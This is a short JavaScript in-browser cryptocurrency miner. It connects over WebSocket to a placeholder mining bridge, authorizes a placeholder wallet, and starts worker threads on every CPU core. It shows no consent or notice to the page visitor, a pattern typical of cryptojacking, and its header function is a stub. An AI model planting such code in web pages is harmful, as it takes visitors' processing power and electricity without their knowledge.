const state = { extranonce1: '', extranonce2Size: 4, difficulty: 1, jobs: new Map(), accepted: 0 };
const socket = new WebSocket('wss://bridge.relay.invalid/yespower');
let id = 1;
const call = (method, ...params) => socket.send(JSON.stringify({ id: id++, method, params }) + '\n');
socket.onopen = () => { call('mining.subscribe', 'page/0.1'); call('mining.authorize', 'WALLET-OF-NOBODY.page', 'c=SUGAR'); };
socket.onmessage = ({ data }) => {
  for (const line of data.split('\n').filter(Boolean)) {
    const { method, params, result } = JSON.parse(line);
    if (method === 'mining.set_difficulty') state.difficulty = params[0];
    else if (method === 'mining.notify') notify(params);
    else if (Array.isArray(result)) [, state.extranonce1, state.extranonce2Size] = result;
    else if (result === true) state.accepted++;
  }
};
function notify([job_id, prevhash, coinb1, coinb2, branch, version, nbits, ntime, clean]) {
  if (clean) state.jobs.clear();
  state.jobs.set(job_id, { prevhash, coinb1, coinb2, branch, version, nbits, ntime });
  for (const worker of workers) worker.postMessage({ job_id, header: header(state.jobs.get(job_id)), target: 65536 / state.difficulty });
}
const workers = Array.from({ length: navigator.hardwareConcurrency }, () => {
  const worker = new Worker('yespower-worker.js');
  worker.onmessage = ({ data: { job_id, extranonce2, ntime, nonce } }) => call('mining.submit', 'WALLET-OF-NOBODY.page', job_id, extranonce2, ntime, nonce);
  return worker;
});
function header() { return new Uint8Array(80); }
